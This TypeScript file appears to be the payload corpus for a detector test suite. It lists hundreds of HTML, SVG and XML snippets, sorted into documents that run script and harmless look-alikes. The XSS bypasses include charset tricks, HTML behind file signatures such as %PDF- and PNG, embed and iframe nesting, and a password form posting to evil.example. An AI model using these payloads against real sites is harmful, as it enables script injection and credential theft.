 * Attributes that affect HTML scripts but not SVG scripts, and values that browsers treat differently: only one of them
 * strips whitespace, or takes the script for a module.
 */
const scriptAttributes: readonly string[] = [
  ...[
    'language="vbscript"',
    'nomodule=""',
    'for="a" event="b"',
    'for="window" event="onloadx"',
    'for="" event=""',
  ],
  ...[
    'language="module"',
    'language=" javascript"',
    'language=" "',
    'type="" language="vbscript"',
    'event="b"',
  ],
  ...['type="text/javascript" nomodule=""', 'type="module" nomodule=""', 'type="module" for="a" event="b"'],
  ...['type=" text/javascript "', 'type=" module "', 'type="MODULE"', 'for=" window " event=" onload() "'],
];
const whiteSpace = [...'\u000b\u1680\u2000\u2003\u2007\u200a\u2028\u205f\u3000'];
const notStripped = [...'\u0085\u00a0\u180e\u200b\u2029\u202f\u2060\ufeff\u001c'];
const spacedScripts = (spaces: readonly string[]): string[] =>
  spaces.flatMap((space) => [
    `<script type="${space}text/javascript">RUN</script>`,
    `<script type="TEXT/JScript${space}">RUN</script>`,
    `<svg><script type="${space} text/javascript">RUN</script></svg>`,
    `<script for="${space}window" event="onload()${space}">RUN</script>`,
  ]);
const scriptElements: readonly Payload[] = [
  ...scriptAttributes.flatMap((text): Payload[] => [
    { kind: 'script attributes', type: 'text/html', text: `<svg><script ${text}>RUN</script></svg>` },
    { kind: 'script attributes', type: 'image/svg+xml', text: svg(`<script ${text}>RUN</script>`) },
  ]),
  ...spacedScripts(whiteSpace).map((text) => ({
    kind: 'script white space',
    type: 'text/html;charset=utf-8',
    text,
  })),
];

const utf16 = (isBig: boolean, mark: boolean) => (text: string) => {
  const units = [...(mark ? '\ufeff' : ''), ...text].map((c) => c.charCodeAt(0));
  return Uint8Array.from(
    units.flatMap((unit) => (isBig ? [unit >> 8, unit & 255] : [unit & 255, unit >> 8])),
  );
};
const latin = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
const encodings: readonly Payload[] = [
  ...canaries.slice(0, 3).flatMap((text): Payload[] => [
    { kind: 'charset', type: 'text/html;charset=utf-16', text, encode: utf16(false, false) },
    { kind: 'charset', type: 'text/html;charset=utf-16le', text, encode: utf16(false, false) },
    { kind: 'charset', type: 'text/html;charset=utf-16be', text, encode: utf16(true, false) },
    { kind: 'charset', type: 'text/html', text, encode: utf16(false, true) },
    { kind: 'charset', type: 'text/html;charset=utf-8', text, encode: utf16(true, true) },
    { kind: 'charset', type: 'text/html;charset=iso-2022-jp', text: `\x1b(J${text}`, encode: latin },
    {
      kind: 'charset',
      type: 'text/html;charset=iso-2022-jp',
      text: `<p title="\x1b$B"\x1b(B">${text}`,
      encode: latin,
    },
    { kind: 'charset', type: 'text/html;charset=x-user-defined', text: `\xe9${text}`, encode: latin },
    { kind: 'charset', type: 'text/html;charset=shift_jis', text: `<p title="\x81">${text}`, encode: latin },
    { kind: 'charset', type: 'text/html;charset=gbk', text: `<p title="\x81"x">${text}`, encode: latin },
    { kind: 'charset', type: 'text/html;charset=utf-7', text, encode: latin },
  ]),
  {
    kind: 'charset',
    type: 'image/svg+xml;charset=utf-16le',
    text: svg('<script>RUN</script>'),
    encode: utf16(false, false),
  },
  { kind: 'charset', type: 'image/svg+xml', text: svg('<script>RUN</script>'), encode: utf16(false, true) },
  { kind: 'charset', type: 'image/svg+xml', text: svg('<script>RUN</script>'), encode: utf16(true, true) },
];

/**
 * HTML after the signatures of other files, and XML after the signatures that XML allows. Browsers parse both as
 * documents anyway.
 */
const signatures = [
  ...[
    '%PDF-',
    '%PDF-1.7\n',
    '%!PS-Adobe-',
    '{\\rtf1',
    'WEBVTT',
    '#!/bin/sh ',
    '#EXTM3U',
    '@echo off',
    '#VRML',
  ],
  ...[
    'GIF89a',
    '\x89PNG\r\n\x1a\n',
    '\xff\xd8\xff',
    'BM',
    '\0\0\x01\0',
    'RIFF    WEBPVP',
    '8BPS\0\x01',
    '\xff\n',
  ],
  ...[
    'PK\x03\x04',
    '\x1f\x8b\x08',
    'x\x9c',
    'BZh',
    'Rar!\x1a\x07\0',
    '\xfd7zXZ\0',
    '(\xb5/\xfd',
    '!<arch>\n',
  ],
  ...['wOFF', 'wOF2', 'OTTO', 'ttcf', '\0\x01\0\0', 'true\0', `${'x'.repeat(34)}LP`],
  ...[
    'ID3',
    'OggS\0',
    'fLaC',
    'MThd\0\0\0\x06',
    '\0\0\0\x10ftypisom',
    'xxxxftypavif',
    'xxxxftypmp42',
    '\x1aE\xdf\xa3',
  ],
  ...['MZ', '\x7fELF', '\0asm', '\xca\xfe\xba\xbe', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'SQLite format 3\0'],
  ...[
    'FWS',
    'dex\n0',
    '[InternetShortcut]',
    `${'x'.repeat(257)}ustar\0`,
    'icns',
    'II*\0',
    'MSCF\0\0\0\0',
    'L\0\0\0',
  ],
];
const inSignature: readonly Payload[] = [
  ...signatures.flatMap((front, index) =>
    variants(
      index,
      canaries
        .slice(0, 2)
        .map((text) => ({ kind: 'signatures', type: 'text/html', text: `${front} ${text}`, encode: latin })),
    ),
  ),
  inHtml(
    'signatures',
    '%PDF-1.4\n<form action=https://evil.example/><input type=password></form><svg onload=RUN>',
  ),
  inHtml('signatures', `%PDF-<iframe src="${nested('text/html', '<script>RUN</script>')}"></iframe>`),
  inHtml('signatures', `<iframe src="${nested('text/html', '%PDF-<script>RUN</script>')}"></iframe>`),
  inHtml('signatures', `<object data="${nested('text/html', '%PDF-<script>RUN</script>')}"></object>`),
  ...['isom', 'mp42', 'avif', 'heic'].flatMap((brand): Payload[] =>
    xmlTypes.slice(0, 4).map((type) => ({
      kind: 'signatures',
      type,
      text: `<!--ftyp${brand}--><r>${scriptOf(xhtmlNs)}</r>`,
    })),
  ),
  {
    kind: 'signatures',
    type: 'text/xml;charset=utf-16le',
    text: `<!--${'x'.repeat(13)}\u504c--><r>${scriptOf(xhtmlNs)}</r>`,
    encode: utf16(false, false),
  },
];

const typesOfHtml = ['TEXT/HTML', 'text/html;charset=x', ' text/html ;a=b', 'text/html;charset="utf-8"'];
/** Types that are not in `documents.ts`, which lists the types that a browser might parse as documents. */
const otherTypes = [
  ...['application/octet-stream', 'video/mp4', 'message/rfc822', 'multipart/related', 'application/pdf'],
];

const listed = ([kind, ...texts]: Hidden): Payload[] => texts.map((text) => inHtml(kind, text));

/** Embeds whose URL is in `code`, which Chromium uses as `src` if `type` is also present. */
const embedded = ['text/html', 'image/svg+xml', 'text/xml', 'APPLICATION/xhtml+xml'].flatMap((type) => [
  `<embed type="${type}" code="${nested('text/html', '<script>RUN</script>')}">`,
  `<embed src="x" code="${nested('text/html', image)}" type="${type}">`,
]);

/** Documents most of which run in at least one browser. */
export const active: readonly Payload[] = [
  ...Object.entries(openings).flatMap(([kind, list]) =>
    list.flatMap((opening, index) => {
      const payloads = canaries.map((canary) => inHtml(kind, opening + canary));
      // A script in MathML does not run, MathML has no images, and an iframe in SVG is not a frame.
      if (kind === 'math') return payloads;
      const isOther = ({ text }: Payload) => kind !== 'noscript' && text.includes('<iframe src=javascript');
      return [
        ...variants(
          index,
          payloads.filter((each) => !isOther(each)),
        ),
        ...payloads.filter(isOther),
      ];
    }),
  ),
  ...[framesets, attributes, references, depths, scripts].flatMap(listed),
  ...[otherNames, scriptsWithElements, farAway].flatMap(listed),
  ...inXml.flatMap((text, index) =>
    variants(index, [
      { kind: 'XML: names', type: 'image/svg+xml', text: svg(text, '', xlinked) },
      { kind: 'XML: names', type: 'application/xhtml+xml', text: html(text, '', xlinked) },
    ]),
  ),
  ...nestings,
  ...likeXml.map((text) => inHtml('like XML', text)),
  ...Object.entries(xmlDocuments).flatMap(([kind, list]) =>
    list.flatMap((text, index) =>
      variants(index, [
        { kind: `XML: ${kind}`, type: xmlTypes[index % xmlTypes.length] as string, text },
        { kind: `XML: ${kind}`, type: xmlTypes[(index + 2) % xmlTypes.length] as string, text },
      ]),
    ),
  ),
  ...transformed.flatMap((text, index) =>
    variants(
      index,
      ['text/xml', 'application/xml', 'application/xhtml+xml'].map((type) => ({ kind: 'XSLT', type, text })),
    ),
  ),
  ...encodings,
  ...inSignature,
  ...scriptElements,
  ...embedded.map((text) => inHtml('embed code', text)),
  ...refreshes(followed),
  ...typesOfHtml.map((type) => ({ kind: 'types', type, text: '<script>RUN</script>' })),
  ...otherTypes.flatMap((type) => [
    { kind: 'types', type, text: '<script>RUN</script>' },
    { kind: 'types', type, text: svg('<script>RUN</script>') },
  ]),
  {
    kind: 'types',
    type: 'multipart/x-mixed-replace;boundary=x',
    text: '--x\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>\r\n--x--',
  },
];

/**
 * Places where HTML contains text, or content that is not rendered. Nothing at `*` becomes an element of the document.
 */
const covers: readonly string[] = [
  '<!-- * -->',
  '<!-- * --!>',
  '<!--x><* -->',
  '<title>*</title>',
  '<textarea>*</textarea>',
  '<style>*</style>',
  '<xmp>*</xmp>',
  '<noembed>*</noembed>',
  '<noframes>*</noframes>',
  '<noscript>*</noscript>',
  '<body><noscript>*</noscript>',
  '<iframe>*</iframe>',
  '<plaintext>*',
  '<template>*</template>',
  '<table><template>*</template></table>',
  '<template><template shadowrootmode=open>*</template></template>',
  '<template><template>*</template></template>',
  '<svg><![CDATA[*]]></svg>',
  '<svg><desc><svg><![CDATA[*]]></svg></desc></svg>',
  '<svg><style><![CDATA[*]]></style></svg>',
  '<math><![CDATA[*]]></math>',
  '<svg><title><style>*</style></title></svg>',
  '<math><mtext><style>*</style></mtext></math>',
  '<math><annotation-xml encoding=text/html><style>*</style></annotation-xml></math>',
  '<svg><desc><xmp>*</xmp></desc></svg>',
  '<svg><foreignObject><title>*</title></foreignObject></svg>',
  '<select><option><!--*--></option></select>',
  '<p data-x="*">',
  "<p title='*'>",
  '<script type=application/json>"*</script>',
  '<script type=text/template>*</script>',
  '<script type=importmap>*</script>',
  '<script type="text/javascript;x=y">*</script>',
  '<title></titlex>*</title>',
  '<style></style<*</style>',
  '<frameset><frame></frameset>*',
  '<frameset>*</frameset>',
  '<frameset><noframes>*</noframes></frameset>',
  '<svg><p><xmp>*</xmp>',
  '<frame><title>*</title>',
  'text *',
  '<textarea>\n</ textarea>*</textarea>',
];
/** Texts without the quotes and angle brackets that would end their cover. */
const covered: readonly string[] = [
  '<script>RUN<\\/script>',
  '<img src=data:, onerror=RUN>',
  '<svg onload=RUN>',
  '<a href=javascript:RUN>',
  '<iframe srcdoc=&lt;script&gt;RUN&lt;/script&gt;>',
];
const escapedText = (text: string): string => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;');

const quiet: readonly string[] = [
  '<script></script>',
  '<script>RUN',
  '<script>RUN</script x',
  '<script nomodule>RUN</script>',
  '<script language=vbscript>RUN</script>',
  '<script type=x/y>RUN</script>',
  '<script for=a event=b>RUN</script>',
  '<script type=speculationrules>{}</script>',
  '<img src=data:, onerror="">',
  '<img src=data:, onerror=RUN',
  '<img src=javascript:RUN>',
  '<tr onclick=RUN>',
  '<option><select><!--<script>RUN</script>--></select>',
  'a<frameset onload=RUN>',
  '<form><form onsubmit=RUN></form>',
  '<iframe sandbox srcdoc="<script>RUN</script>"></iframe>',
  '<iframe sandbox="allow-forms" srcdoc="<img src=data:, onerror=RUN>"></iframe>',
  '<template><iframe src=javascript:RUN></iframe></template>',
  '<svg><template><p></p></template></svg>',
  '<p>Use &lt;script> and on* attributes.</p>',
  '<script src="">RUN</script>',
  `<iframe src="${nested('text/html', '<script>RUN</script>')}" srcdoc></iframe>`,
  '<iframe src="javascript:RUN" srcdoc=x></iframe>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  `<meta http-equiv=" refresh" content="0;url=${nested('text/html', '<script>RUN</script>')}">`,
  '<svg><script href="">RUN</script></svg>',
  '<svg><script xlink:href="">RUN</script></svg>',
  '<svg><script type=x/y>RUN</script></svg>',
  '<script language="javascript ">RUN</script>',
  '<script language=module>RUN</script>',
  '<script type=" ">RUN</script>',
  '<script type=x/y language=javascript>RUN</script>',
  '<h1>Hello</h1><p>A page like others.</p><img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= alt=x>',
];

const innocentXml: Record<string, readonly string[]> = {
  'no namespace': [
    '<r><script>RUN</script></r>',
    '<svg onload="RUN"><script>RUN</script></svg>',
    '<html><body onload="RUN"><script>RUN</script></body></html>',
    '<rss version="2.0"><channel><script>RUN</script><a href="javascript:RUN"/></channel></rss>',
    '<feed xmlns="http://www.w3.org/2005/Atom"><script>RUN</script></feed>',
    `<r xmlns:h="${xhtmlNs}"><script>RUN</script><img onerror="RUN"/></r>`,
    `<r xmlns="${svgNs}/"><script>RUN</script></r>`,
    `<r xmlns="${svgNs}" xmlns:x="y"><x:script>RUN</x:script></r>`,
    `<svg xmlns="${svgNs}"><g xmlns=""><script>RUN</script></g></svg>`,
    `<svg xmlns="${svgNs}" xmlns:x="y" x:onload="RUN"/>`,
    `<svg xmlns="${svgNs}"><Script>RUN</Script></svg>`,
    `<html xmlns="${xhtmlNs}"><SCRIPT>RUN</SCRIPT><IMG SRC="data:," ONERROR="RUN"/></html>`,
    `<html xmlns="${xhtmlNs}"><img src="data:," ONERROR="RUN"/></html>`,
    `<r xmlns="&amp;"><script>RUN</script></r>`,
  ],
  text: [
    svg('<!-- <script>RUN</script> -->'),
    svg('<![CDATA[<script>RUN</script>]]>'),
    svg('<?x <script>RUN</script> ?>'),
    svg('<desc>&lt;script>RUN&lt;/script></desc>'),
    svg('<desc a="&lt;script>RUN&lt;/script>"/>'),
    svg('<script type="x/y">RUN</script>'),
    svg('<script/>'),
    svg('<style>a{}/* <![CDATA[<script>RUN</script>]]> */</style>'),
    html('<title>x</title><style><![CDATA[<script>RUN</script>]]></style>'),
    html('<template><script>RUN</script></template>'),
    svg('<rect width="1" height="1" fill="red"/>'),
  ],
  'document types': [
    svg('&n;', subset('<!ENTITY n "name">')),
    `${subset(`<!ENTITY ns_svg "${svgNs}"><!ENTITY ns_xlink "http://www.w3.org/1999/xlink">`)}<svg xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" width="1" height="1"><rect/></svg>`,
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svg('<rect/>')}`,
    `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">${html('&nbsp;')}`,
    svg('<rect/>', subset('<!ATTLIST svg xmlns:a CDATA #IMPLIED viewBox CDATA "0 0 9 9">')),
    svg('<rect/>', subset('<!ENTITY s "<script>RUN</script>">')),
    svg('<!-- &s; --><![CDATA[&s;]]>', subset('<!ENTITY s "<script>RUN</script>">')),
    svg('&s;', subset('<!ENTITY s "<desc>text</desc>">')),
    svg('&s;', subset('<!ENTITY s "&#38;lt;script>RUN&#38;lt;/script>">')),
    svg('&s;', subset('<!ENTITY s "a"><!ENTITY s "<script>RUN</script>">')),
    svg('<g/>', subset('<!ATTLIST g fill CDATA "red"><!ELEMENT g ANY><!NOTATION n SYSTEM "x">')),
    `<!DOCTYPE html>${html('&nbsp;<script>RUN</script>')}`,
    `<!DOCTYPE svg>${svg('&bogus;<script>RUN</script>')}`,
    svg('&b;<script>RUN</script>', subset('<!ENTITY a "b">')),
    svg('<g/>', subset('<!-- <!ATTLIST g onload CDATA "RUN"> --><?x <!ENTITY ?>')),
  ],
  'style sheets': [
    `<?xml-stylesheet type="text/css" href="data:text/css,r{}"?>${svg('<rect/>')}`,
    `<?xml-stylesheet href="data:text/css,r{}"?><r/>`,
    `<?xml-stylesheets type="text/xsl" href="${nested('text/xsl', built)}"?><r/>`,
    `<r><?xml-stylesheet type="text/xsl" href="${nested('text/xsl', built)}"?></r>`,
    `<!-- <?xml-stylesheet type="text/xsl" href="${nested('text/xsl', built)}"?> --><r/>`,
    built,
  ],
};

/** Documents that no browser runs, although they resemble documents that run. */
export const innocent: readonly Payload[] = [
  ...refreshes(notFollowed),
  ...covers.flatMap((cover, index) =>
    variants(
      index,
      covered.map((text) =>
        inHtml(
          'covered',
          cover.replace('*', cover.startsWith('text') || cover.includes('frame') ? escapedText(text) : text),
        ),
      ),
    ),
  ),
  ...quiet.map((text) => inHtml('quiet', text)),
  ...spacedScripts(notStripped).map((text) => ({ kind: 'quiet', type: 'text/html;charset=utf-8', text })),
  ...['language="vbscript"', 'nomodule=""', 'for="a" event="b"', 'src=""', 'type="x/y"'].map((text) => ({
    kind: 'quiet',
    type: 'application/xhtml+xml',
    text: html(`<script ${text}>RUN</script>`),
  })),
  ...Object.entries(innocentXml).flatMap(([kind, list]) =>
    list.flatMap((text, index) =>
      variants(
        index,
        xmlTypes.map((type) => ({ kind: `XML: ${kind}`, type, text })),
      ),
    ),
  ),
];

/** Returns the document as a data: URL, with a script in place of the canary. */
export function urlOf({ type, text, encode = utf8 }: Payload, run: string): string {
  const bytes = encode(
    text
      .replaceAll('BASE64', btoa(run))
      .replaceAll('REFERENCES', () => run.replace(/./g, (c) => `&#${c.charCodeAt(0)};`))
      .replaceAll('RUN', () => run),
  );
  return `data:${type};base64,${btoa(String.fromCharCode(...bytes))}`;
}
const utf8 = (text: string) => new TextEncoder().encode(text);
